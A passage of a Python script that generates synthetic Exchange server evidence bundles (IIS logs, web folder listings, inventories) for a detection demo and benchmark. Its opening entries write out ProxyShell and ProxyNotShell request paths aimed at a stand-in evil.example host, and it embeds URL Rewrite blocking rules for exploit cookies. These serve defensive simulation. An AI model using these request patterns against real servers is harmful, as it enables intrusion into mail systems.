        attempt(
            rng,
            "2026-11-12T03:17:41.208",
            "POST",
            f"@evil.example/mapi/nspi/?&{evil}",
            "python-requests/2.26.0",
            PROXYSHELL_ACTOR,
            400,
            64,
        ),
        attempt(
            rng,
            "2026-11-12T03:17:44.871",
            "POST",
            f"@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBBUJhc2lj&{evil}",
            "python-requests/2.26.0",
            PROXYSHELL_ACTOR,
            401,
            12,
        ),
        # ProxyNotShell with "@" and "Powershell" percent-encoded (the bypass of the first mitigation).
        attempt(
            rng,
            "2026-11-18T22:41:09.530",
            "GET",
            "%40evil.example/%50owershell/&Email=autodiscover/autodiscover.json%3F%40evil.example",
            "python-requests/2.28.1",
            PROXYNOTSHELL_ACTOR,
            401,
            9,
        ),
    ]
    # An internet scanner's ProxyShell check (the nmap/Nessus probe); the front end adds ClientId.
    scan = attempt(
        rng,
        "2026-11-20T05:02:33.117",
        "GET",
        "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com",
        "Mozilla/5.0 zgrab/0.x",
        SCANNER,
        400,
        7,
    )
    client_id = hex_id(rng, 32, upper=True)
    scan.iis_query = f"{scan.query}&ClientId={client_id}&CorrelationID=<empty>;&cafeReqId={scan.request_id};"
    sc.requests.append(scan)
    sc.hours = sorted({r.time.replace(minute=0, second=0, microsecond=0) for r in sc.requests})
    return sc


# ---------------------------------------------------------------------------------------------
# Web folders as an incident responder copies them (hunt stream WebFolders, listing.jsonl)
# ---------------------------------------------------------------------------------------------

OWA_AUTH_PAGES = [
    ("errorFE.aspx", "ErrorFE"),
    ("ExpiredPassword.aspx", "ExpiredPassword"),
    ("frowny.aspx", "Frowny"),
    ("logoff.aspx", "Logoff"),
    ("logon.aspx", "Logon"),
    ("OutlookCN.aspx", "OutlookCN"),
    ("RedirSuiteServiceProxy.aspx", "RedirSuiteServiceProxy"),
    ("signout.aspx", "Signout"),
]
GET_ID_TOKEN = [
    "<!DOCTYPE html>",
    "<html>",
    "<head>",
    '<meta http-equiv="X-UA-Compatible" content="IE=edge" />',
    "<title></title>",
    '<script type="text/javascript">',
    "    window.onload = function () {",
    "        if (window.opener) { window.opener.postMessage(window.location.hash, window.location.origin); }",
    "        window.close();",
    "    };",
    "</script>",
    "</head>",
    "<body></body>",
    "</html>",
]
FLOGON_JS = [
    "/* Copyright (c) Microsoft Corporation. All rights reserved. */",
    'function gbid(s){return document.getElementById(s);}',
    'function setCookie(n,v){document.cookie=n+"="+v+"; path=/; secure";}',
    'function clkLgn(){var o=gbid("passwordText");if(o&&o.value===""){return false;}'
    'setCookie("PrivateComputer","true");document.forms[0].submit();return true;}',
    'function showPasswordClick(){var o=gbid("password");if(o){o.focus();}}',
]
LOGON_CSS = [
    'body{margin:0;padding:0;font-family:"Segoe UI","Segoe UI Web (West European)",Tahoma,Arial,sans-serif;}',
    ".signInBg{background-color:#0072c6;}",
    ".signInInputText{width:100%;height:28px;border:1px solid #c8c8c8;}",
    ".signinbutton{cursor:pointer;color:#fff;background-color:#0072c6;}",
]
ASPNET_CLIENT = "C:\\inetpub\\wwwroot\\aspnet_client"


@dataclass
class WebFolders:
    roots: list[str]  # the folders the responder copied (the hunter's WebFolders stream)
    files: list[tuple[str, list[str], datetime]]  # (Windows path, lines, last write)
    dirs: dict[str, datetime]  # Windows path -> last write, every folder including the empty ones


def owa_page(inherits: str) -> list[str]:
    return [
        '<%@ Page language="c#" AutoEventWireup="false" '
        f'Inherits="Microsoft.Exchange.HttpProxy.{inherits}" %>',
        '<%@ Import Namespace="Microsoft.Exchange.HttpProxy" %>',
        "<!DOCTYPE html>",
        "<html>",
        '<head><meta http-equiv="X-UA-Compatible" content="IE=10" /><title>Outlook</title></head>',
        "<body><% RenderPage(); %></body>",
        "</html>",
    ]


def build_laid_down(ctx: Context, catalog: Catalog) -> date:
    """Day the current build's web files were written: the last update package's install day, or
    (no SU on the CU) about three weeks after the CU shipped."""
    updates = installed_updates(ctx, catalog)
    if updates:
        return date.fromisoformat(updates[-1]["installed"])
    if ctx.spec.build_override:
        return ctx.spec.collected_at.date() - timedelta(days=60)
    return date.fromisoformat(catalog.row(ctx.spec.product, ctx.spec.cu).cu_release_date) + timedelta(days=23)


def web_folders(ctx: Context, catalog: Catalog) -> WebFolders:
    """owa\\auth, ecp\\auth, OAB and aspnet_client of an Exchange 2013+ Mailbox server."""
    spec = ctx.spec
    rng = random.Random(f"{spec.name}:web")
    proxy = ctx.ex("FrontEnd\\HttpProxy")
    installed = spec.installed_on or spec.collected_at.date() - timedelta(days=365)
    setup = datetime(installed.year, installed.month, installed.day, 11, tzinfo=UTC) + timedelta(
        seconds=rng.randint(0, 3599)
    )
    laid = build_laid_down(ctx, catalog)
    update = datetime(laid.year, laid.month, laid.day, 19, tzinfo=UTC) + timedelta(seconds=rng.randint(0, 3599))
    # IIS and ASP.NET were set up before Exchange (a prerequisite), on the same day.
    iis_setup = setup - timedelta(hours=2, minutes=rng.randint(0, 30))
    build = build_plain(ctx.build)
    auth = f"{proxy}\\owa\\auth"
    files: list[tuple[str, list[str], datetime]] = []
    for page, inherits in OWA_AUTH_PAGES:
        files.append((f"{auth}\\{page}", owa_page(inherits), update))
    files.append((f"{auth}\\GetIdToken.htm", GET_ID_TOKEN, update))
    files.append((f"{auth}\\{build}\\scripts\\premium\\flogon.js", FLOGON_JS, update))
    files.append((f"{auth}\\{build}\\themes\\resources\\logon.css", LOGON_CSS, update))
    files.append(
        (
            f"{proxy}\\ecp\\auth\\TimeoutLogoff.aspx",
            [
                '<%@ Page Language="C#" AutoEventWireup="true" '
                'Inherits="Microsoft.Exchange.HttpProxy.TimeoutLogoff" %>',
                "<!DOCTYPE html>",
                "<html><head><title>Exchange admin center</title></head><body></body></html>",
            ],
            update,
        )
    )
    dirs = {
        auth: update,
        f"{auth}\\{build}": update,
        f"{auth}\\{build}\\scripts": update,
        f"{auth}\\{build}\\scripts\\premium": update,
        f"{auth}\\{build}\\themes": update,
        f"{auth}\\{build}\\themes\\resources": update,
        f"{proxy}\\ecp\\auth": update,
        f"{proxy}\\OAB": setup,
        ASPNET_CLIENT: iis_setup,
        f"{ASPNET_CLIENT}\\system_web": iis_setup,
        f"{ASPNET_CLIENT}\\system_web\\4_0_30319": iis_setup,
    }
    roots = [ASPNET_CLIENT, auth, f"{proxy}\\ecp\\auth", f"{proxy}\\OAB"]
    return WebFolders(roots=roots, files=files, dirs=dirs)


def under(path: str, root: str) -> bool:
    return path.lower() == root.lower() or path.lower().startswith(root.lower() + "\\")


def listing_jsonl(bundle: Bundle, web: WebFolders, files: dict[str, datetime]) -> bytes:
    """What the responder saw in the web folders (the live collector's listing.jsonl, plus "type"): every folder,
    also the empty ones git cannot hold, and every file with size and SHA-256 of its copy."""
    entries: list[dict[str, object]] = []
    for path, modified in web.dirs.items():
        entries.append({"path": path, "type": "dir", "modified": iso_s(modified)})
    for path, modified in files.items():
        data = bundle.files[windows_to_bundle(path)]
        entries.append(
            {
                "path": path,
                "type": "file",
                "size": len(data),
                "sha256": hashlib.sha256(data).hexdigest(),
                "modified": iso_s(modified),
                "copied": True,
                "truncated": False,
            }
        )
    entries.sort(key=lambda e: (str(e["path"]).lower(), str(e["path"])))
    return "".join(json.dumps(e, ensure_ascii=False, separators=(",", ":")) + "\n" for e in entries).encode("utf-8")


# ---------------------------------------------------------------------------------------------
# One bundle
# ---------------------------------------------------------------------------------------------

EOMT_WEB_CONFIG = [
    '<?xml version="1.0" encoding="UTF-8"?>',
    "<configuration>",
    "    <system.webServer>",
    "        <rewrite>",
    "            <rules>",
    '                <rule name="X-AnonResource-Backend Abort - inbound">',
    '                    <match url=".*" />',
    "                    <conditions>",
    '                        <add input="{HTTP_COOKIE}" pattern="(.*)X-AnonResource-Backend(.*)" />',
    "                    </conditions>",
    '                    <action type="AbortRequest" />',
    "                </rule>",
    '                <rule name="X-BEResource Abort - inbound" stopProcessing="true">',
    '                    <match url=".*" />',
    "                    <conditions>",
    '                        <add input="{HTTP_COOKIE}" pattern="(.*)X-BEResource=(.+)/(.+)~(.+)" />',
    "                    </conditions>",
    '                    <action type="AbortRequest" />',
    "                </rule>",
    "            </rules>",
    "        </rewrite>",
    "    </system.webServer>",
    "</configuration>",
]


def build_bundle(
    spec: ServerSpec, org: Org, catalog: Catalog, seed: str, estate: list[ServerSpec], full_logs: bool = True
) -> Bundle:
    ctx = make_context(spec, org, catalog, seed, estate)
    bundle = Bundle(spec.name)
    bundle.add_bytes("server.json", encode_server_json(server_json(ctx, catalog), spec.damaged))

    scenario = Scenario()
    if spec.scenario == "proxylogon":
        scenario = proxylogon(ctx)
    elif spec.scenario == "attempts":
        scenario = exploit_attempts(ctx)
    elif spec.scenario == "synthetic-proxylogon":
        scenario = synthetic_attack(ctx)

    if spec.has_iis:
        traffic = generate_traffic(ctx, extra_hours=scenario.hours)
        traffic.requests.extend(scenario.requests)
        write_iis(ctx, bundle, traffic.requests)
        if ctx.v15:
            write_httpproxy(ctx, bundle, traffic)
            if full_logs:
                write_ecp(ctx, bundle, traffic, scenario.ecp_rows)
                write_rps(ctx, bundle, traffic)
                write_oabgen(ctx, bundle, scenario.oab_entries)
    if full_logs:
        write_events(bundle, "Application", application_events(ctx) + scenario.application)
        management = management_events(ctx) + scenario.management
        if spec.management_evtx:
            write_events_evtx(bundle, "MSExchange Management", management, ctx.fqdn)
        else:
            write_events(bundle, "MSExchange Management", management)
        if spec.ep_product == "Microsoft Defender Antivirus":
            write_events(bundle, "Microsoft-Windows-Windows Defender/Operational", defender_events(ctx))
    for path, lines in scenario.files:
        bundle.add_windows_file(path, lines)
    # The benchmark estates stay small: only the demo's Mailbox servers carry copied web folders.
    if full_logs and ctx.v15 and spec.has_iis and "EdgeTransport" not in spec.roles:
        web = web_folders(ctx, catalog)
        listed: dict[str, datetime] = {}
        for path, lines, modified in web.files:
            bundle.add_windows_file(path, lines)
            listed[path] = modified
        for path, _ in scenario.files:
            if any(under(path, root) for root in web.roots):
                written = scenario.file_times[path]  # a page planted in a web folder says when it was written
                listed[path] = written
                folder = path.rsplit("\\", 1)[0]
                web.dirs[folder] = max(web.dirs.get(folder, written), written)
        bundle.add_bytes("listing.jsonl", listing_jsonl(bundle, web, listed))
    if spec.rewrite_rules:
        bundle.add_windows_file("C:\\inetpub\\wwwroot\\web.config", EOMT_WEB_CONFIG, bom=True)
    return bundle


# ---------------------------------------------------------------------------------------------
# Estates
# ---------------------------------------------------------------------------------------------

EOMT_RULES = ["X-AnonResource-Backend Abort - inbound", "X-BEResource Abort - inbound"]
WS2022 = ("Microsoft Windows Server 2022 Standard", "10.0.20348")
WS2022_DC = ("Microsoft Windows Server 2022 Datacenter", "10.0.20348")
WS2019 = ("Microsoft Windows Server 2019 Standard", "10.0.17763")
WS2016 = ("Microsoft Windows Server 2016 Standard", "10.0.14393")
WS2012R2 = ("Microsoft Windows Server 2012 R2 Standard", "6.3.9600")
WS2008R2 = ("Microsoft Windows Server 2008 R2 Enterprise", "6.1.7601")


def demo_specs() -> list[ServerSpec]:
    """The demo estate (inventories/demo/README.md says what each server should be assessed as)."""
    ex19, ex16, ex13, se = (
        "Exchange Server 2019",
        "Exchange Server 2016",
        "Exchange Server 2013",
        "Exchange Server SE",
    )
    # The 2026 servers were collected on the morning of 25/26 November: the triage keeps the previous
    # full working day and that morning at full density.
    now = (date(2026, 11, 25), date(2026, 11, 26))
    now25 = (date(2026, 11, 24), date(2026, 11, 25))
    dag = ["ex19-dag1", "ex19-dag2", "ex19-dag3"]
    specs = [
        ServerSpec(
            "ex19-dag1",
            "dag01",
            ex19,
            "CU14",
            "Nov24SUv2",
            padded_version=True,
            dag="DAG01",
            os_caption=WS2022[0],
            os_version=WS2022[1],
            dotnet_release=528449,
            ip="10.0.10.21",
            collected_at=at("2026-11-26T09:12:44"),
            dense_days=now,
            peers=dag,
            update_history=1,
            installed_on=date(2022, 3, 15),
        ),
        ServerSpec(
            "ex19-dag2",
            "dag01",
            ex19,
            "CU14",
            "Aug26SU",
            padded_version=False,
            dag="DAG01",
            os_caption=WS2022_DC[0],
            os_version=WS2022_DC[1],
            ip="10.0.10.22",
            collected_at=at("2026-11-26T09:14:02"),
            dense_days=now,
            peers=dag,
            update_history=3,
            iis_restart=date(2026, 11, 17),
            bom=False,
            installed_on=date(2022, 3, 16),
        ),
        ServerSpec(
            "ex19-dag3",
            "dag01",
            ex19,
            "CU15",
            "Aug26SU",
            padded_version=True,
            dag="DAG01",
            os_caption=WS2022[0],
            os_version=WS2022[1],
            ip="10.0.10.23",
            collected_at=at("2026-11-26T09:15:37"),
            dense_days=now,
            peers=dag,
            update_history=2,
            install_path="D:\\Exchange Server\\V15\\",
            installed_on=date(2022, 3, 22),
        ),
        ServerSpec(
            "ex16-legacy",
            "standalone",
            ex16,
            "CU19",
            "",
            padded_version=True,
            os_caption=WS2016[0],
            os_version=WS2016[1],
            dotnet_release=528049,
            url_rewrite=None,
            mitigation_service=None,
            ep_real_time=False,
            ep_signature_age=40,
            ip="10.0.10.11",
            collected_at=at("2021-03-09T14:27:05"),
            scenario="proxylogon",
            dense_requests=700,
            dense_days=(date(2021, 3, 3), date(2021, 3, 4), date(2021, 3, 8), date(2021, 3, 9)),
            installed_on=date(2019, 5, 14),
            management_evtx=True,
        ),
        ServerSpec(
            "ex16-patched",
            "standalone",
            ex16,
            "CU23",
            "Aug26SU",
            padded_version=False,
            os_caption=WS2016[0],
            os_version=WS2016[1],
            dotnet_release=528049,
            ip="10.0.10.31",
            collected_at=at("2026-11-25T16:03:11"),
            dense_days=now25,
            update_history=3,
            installed_on=date(2018, 6, 12),
            scenario="attempts",
        ),
        ServerSpec(
            "ex16-mitigated",
            "standalone",
            ex16,
            "CU18",
            "",
            padded_version=True,
            site="BRANCH",
            os_caption=WS2012R2[0],
            os_version=WS2012R2[1],
            dotnet_release=528040,
            rewrite_rules=list(EOMT_RULES),
            mitigation_service=None,
            ip="10.0.12.11",
            collected_at=at("2026-11-25T16:20:48"),
            dense_days=now25,
            dense_requests=700,
            daily_requests=24,
            users=20,
            installed_on=date(2018, 10, 9),
        ),
        ServerSpec(
            "ex13",
            "standalone",
            ex13,
            "CU23",
            "Mar23SU",
            padded_version=True,
            site="BRANCH",
            roles=["Mailbox", "ClientAccess"],
            os_caption=WS2012R2[0],
            os_version=WS2012R2[1],
            dotnet_release=528040,
            url_rewrite=None,
            mitigation_service=None,
            ip="10.0.12.12",
            collected_at=at("2026-11-25T15:40:00"),
            dense_days=now25,
            dense_requests=700,
            daily_requests=24,
            users=20,
            bom=False,
            installed_on=date(2016, 4, 19),
        ),
        ServerSpec(
            "exse01",
            "standalone",
            se,
            "RTM",
            "Aug26SU",
            padded_version=False,
            os_caption=WS2022[0],
            os_version=WS2022[1],
            ip="10.0.10.51",
            collected_at=at("2026-11-26T08:55:19"),
            dense_days=now,
            update_history=3,
            installed_on=date(2025, 9, 2),
        ),
        ServerSpec(
            "edge01",
            "edge",
            ex19,
            "CU15",
            "Feb26SU",
            padded_version=True,
            roles=["EdgeTransport"],
            site=None,
            os_caption=WS2019[0],
            os_version=WS2019[1],
            dotnet_release=528049,
            has_iis=False,
            url_rewrite=None,
            mitigation_service=None,
            ip="172.16.50.10",
            collected_at=at("2026-11-26T10:02:30"),
            update_history=2,
            installed_on=date(2023, 5, 9),
        ),
        ServerSpec(
            "ex10",
            "standalone",
            "Exchange Server 2010",
            "SP3",
            build_override=EX2010_SP3_RU32,
            roles=["Mailbox", "ClientAccess", "HubTransport", "UnifiedMessaging"],
            os_caption=WS2008R2[0],
            os_version=WS2008R2[1],
            dotnet_release=528040,
            url_rewrite=None,
            mitigation_service=None,
            ep_product="Symantec Endpoint Protection",
            ep_signature_age=3,
            ip="10.0.10.61",
            install_path="C:\\Program Files\\Microsoft\\Exchange Server\\V14\\",
            collected_at=at("2026-11-25T14:10:09"),
            dense_days=now25,
            dense_requests=600,
            daily_requests=20,
            users=16,
            installed_on=date(2013, 2, 26),
        ),
        ServerSpec(
            "ex-damaged",
            "standalone",
            ex19,
            "CU14",
            "Apr25HU",
            padded_version=True,
            os_caption=WS2019[0],
            os_version=WS2019[1],
            dotnet_release=528049,
            ip="10.0.10.71",
            collected_at=at("2026-11-26T11:30:00"),
            damaged=True,
            window_days=6,
            daily_requests=30,
            dense_days=now,
            dense_requests=300,
            users=12,
            installed_on=date(2024, 3, 12),
        ),
        ServerSpec(
            "ex19-unknown",
            "standalone",
            ex19,
            "CU14",
            build_override="15.2.1544.99",
            padded_version=False,
            site="BRANCH",
            os_caption=WS2019[0],
            os_version=WS2019[1],
            dotnet_release=533325,
            ip="10.0.12.15",
            collected_at=at("2026-11-26T10:40:52"),
            dense_days=now,
            dense_requests=500,
            daily_requests=18,
            users=16,
            update_history=1,
            installed_on=date(2024, 2, 27),
        ),
    ]
    return specs


SITES = ["HQ", "BER", "NYC", "SGP", "LON"]


def small(os_caption: str, os_version: str, dotnet: int, spec: ServerSpec) -> ServerSpec:
    """Benchmark bundles stay small: two days of light traffic, no dense day."""
    spec.os_caption, spec.os_version, spec.dotnet_release = os_caption, os_version, dotnet
    spec.window_days, spec.daily_requests, spec.dense_days, spec.users = 1, 20, (), 12
    return spec


def synthetic_specs(catalog: Catalog, hosts: int, seed: int) -> list[ServerSpec]:
    """Benchmark estate: DAGs of 2-4 members, standalone servers and a few Edge servers."""
    rng = random.Random(f"synthetic:{seed}")
    collected = datetime(2026, 11, 26, 8, 0, tzinfo=UTC)
    products = [
        ("Exchange Server 2019", 45),
        ("Exchange Server 2016", 33),
        ("Exchange Server 2013", 10),
        ("Exchange Server SE", 12),
    ]
    os_for = {
        "Exchange Server 2013": [WS2012R2],
        "Exchange Server 2016": [WS2016, WS2012R2],
        "Exchange Server 2019": [WS2019, WS2022],
        "Exchange Server SE": [WS2022],
    }
    # .NET Framework 4.8 reports a different Release value per Windows version.
    dotnet_for = {"6.3.9600": 528040, "10.0.14393": 528049, "10.0.17763": 528049, "10.0.20348": 528449}

    def pick_build(product: str, cu: str | None = None) -> tuple[str, str]:
        cus = catalog.cus(product)
        cu = cu or rng.choice(cus[-6:]).cu
        updates = [r for r in catalog.cu_rows(product, cu) if r.update]
        if not updates or rng.random() < 0.15:
            return cu, ""
        # Newer SUs are more likely: an estate is usually a few months behind, rarely years.
        return cu, updates[-1 - min(int(rng.expovariate(0.6)), len(updates) - 1)].update

    specs: list[ServerSpec] = []
    dag_no = 0
    while len(specs) < hosts:
        index = len(specs)
        site = rng.choice(SITES)
        product = weighted(rng, products)
        os_caption, os_version = rng.choice(os_for[product])
        roll = rng.random()
        dotnet = dotnet_for[os_version]

        if roll < 0.05 and product in ("Exchange Server 2019", "Exchange Server SE"):
            cu, update = pick_build(product)
            specs.append(
                small(
                    os_caption,
                    os_version,
                    dotnet,
                    ServerSpec(
                        f"edge-{site.lower()}-{index:04d}",
                        "edge",
                        product,
                        cu,
                        update,
                        padded_version=rng.random() < 0.5,
                        roles=["EdgeTransport"],
                        site=None,
                        has_iis=False,
                        url_rewrite=None,
                        mitigation_service=None,
                        ip=f"172.16.{50 + index // 250}.{index % 250 + 2}",
                        collected_at=collected,
                    ),
                )
            )
            continue
        members = rng.randint(2, 4) if roll < 0.65 else 1
        members = min(members, hosts - len(specs))
        dag_name = None
        names = [f"ex-{site.lower()}-{index + n:04d}" for n in range(members)]
        if members > 1:
            dag_no += 1
            dag_name = f"DAG{dag_no:02d}"
        cu, _ = pick_build(product)
        for n, name in enumerate(names):
            cu_n, update = pick_build(product, cu)
            row = catalog.row(product, cu_n, update)
            # The Emergency Mitigation Service and the URL Rewrite prerequisite came with the
            # September 2021 CUs (2016 CU22, 2019 CU11); SE has both.
            modern = row.cu_release_date >= "2021-09-28"
            vulnerable = not catalog.patched_against(parse_build(row.build), product, "Mar21SU")
            specs.append(
                small(
                    os_caption,
                    os_version,
                    dotnet,
                    ServerSpec(
                        name,
                        dag_name.lower() if dag_name else "standalone",
                        product,
                        cu_n,
                        update,
                        padded_version=rng.random() < 0.5,
                        dag=dag_name,
                        peers=names if dag_name else [],
                        url_rewrite="7.2.1993" if modern or rng.random() < 0.3 else None,
                        mitigation_service=True if modern else None,
                        ep_signature_age=rng.choice((0, 1, 1, 2, 9)),
                        ip=f"10.{20 + (index + n) // 250}.{(index + n) % 250}.10",
                        collected_at=collected + timedelta(minutes=index + n),
                        update_history=rng.randint(0, 3),
                        roles=["Mailbox", "ClientAccess"] if product.endswith("2013") else ["Mailbox"],
                        scenario="synthetic-proxylogon" if vulnerable and rng.random() < 0.2 else "",
                        site=site,
                    ),
                )
            )
    return specs


def inventory_yaml(specs: list[ServerSpec], title: str) -> str:
    """hosts.yml by hand (the generator is stdlib only); every value is quoted where YAML needs it."""
    groups: dict[str, list[str]] = {}
    for spec in specs:
        groups.setdefault(spec.group, []).append(spec.name)
    order = sorted(g for g in groups if g not in ("standalone", "edge")) + [
        g for g in ("standalone", "edge") if g in groups
    ]
    lines = [
        "---",
        f"# {title}",
        "# Generated by tools/generate_estate.py - do not edit; regenerate instead.",
        "# Every host is assessed offline from its evidence bundle (DESIGN.md, evidence bundle format 1).",
        "all:",
        "  children:",
        "    exchange:",
        "      vars:",
        "        ansible_connection: local",
        '        ansible_python_interpreter: "{{ ansible_playbook_python }}"',
        "      children:",
    ]
    for group in order:
        lines += [f"        {group}:", "          hosts:"]
        for name in groups[group]:
            lines += [
                f"            {name}:",
                f'              exchange_evidence_dir: "{{{{ inventory_dir }}}}/evidence/{name}"',
            ]
    return "\n".join(lines) + "\n"


@dataclass
class Stats:
    bundles: int = 0
    files: int = 0
    bytes: int = 0
    removed: list[str] = field(default_factory=list)


def write_estate(out: Path, specs: list[ServerSpec], bundles: list[Bundle], title: str) -> Stats:
    stats = Stats(bundles=len(bundles))
    wanted: dict[Path, bytes] = {out / "hosts.yml": inventory_yaml(specs, title).encode("utf-8")}
    for bundle in bundles:
        for relative, data in bundle.files.items():
            wanted[out / "evidence" / bundle.name / relative] = data
    for path in sorted(wanted):
        path.parent.mkdir(parents=True, exist_ok=True)
        data = wanted[path]
        if not path.exists() or path.read_bytes() != data:
            path.write_bytes(data)
        stats.files += 1
        stats.bytes += len(data)
    # Keep evidence/ exactly equal to the generated set: stale files from an older run would make
    # the committed estate differ from a fresh generation.
    evidence = out / "evidence"
    for path in sorted(evidence.rglob("*"), reverse=True):
        if path.is_file() and path not in wanted:
            path.unlink()
            stats.removed.append(str(path.relative_to(out)))
        elif path.is_dir() and not any(path.iterdir()):
            path.rmdir()
    return stats


def load_catalog(explicit: str | None) -> Catalog:
    path = Path(explicit) if explicit else DEFAULT_CATALOG
    if not path.is_file():
        raise SystemExit(f"build catalog not found: {path} (pass --catalog PATH)")
    return Catalog.load(path)


def generate_demo(out: Path, catalog: Catalog) -> Stats:
    org = build_org(DEMO_SEED)
    specs = demo_specs()
    bundles = [build_bundle(spec, org, catalog, DEMO_SEED, specs) for spec in specs]
    return write_estate(
        out, specs, bundles, f"Demo estate: Contoso, {len(specs)} Exchange servers (see README.md)"
    )


def generate_synthetic(out: Path, catalog: Catalog, hosts: int, seed: int) -> Stats:
    text_seed = f"synthetic-{seed}"
    org = build_org(text_seed)
    specs = synthetic_specs(catalog, hosts, seed)
    bundles = [build_bundle(spec, org, catalog, text_seed, specs, full_logs=False) for spec in specs]
    return write_estate(out, specs, bundles, f"Synthetic benchmark estate: {hosts} hosts, seed {seed}")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--catalog", help="exchange-builds.csv to use (default: data/exchange-builds.csv)")
    sub = parser.add_subparsers(dest="mode", required=True)
    demo = sub.add_parser("demo", help="write the demo estate")
    demo.add_argument("--out", default=str(DEMO_OUT), help="estate directory (default: inventories/demo)")
    demo.add_argument("--catalog", dest="catalog_sub", help=argparse.SUPPRESS)
    synth = sub.add_parser("synthetic", help="write a synthetic benchmark estate")
    synth.add_argument("--hosts", type=int, required=True)
    synth.add_argument("--out", required=True)
    synth.add_argument("--seed", type=int, default=1)
    synth.add_argument("--catalog", dest="catalog_sub", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)

    catalog = load_catalog(args.catalog_sub or args.catalog)
    out = Path(args.out)
    if args.mode == "demo":
        stats = generate_demo(out, catalog)
    else:
        if args.hosts < 1:
            parser.error("--hosts must be at least 1")
        stats = generate_synthetic(out, catalog, args.hosts, args.seed)
    for removed in stats.removed:
        print(f"removed stale {removed}", file=sys.stderr)
    print(
        f"wrote {stats.bundles} bundles, {stats.files} files, {stats.bytes / 1_000_000:.1f} MB to {out}",
        file=sys.stderr,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
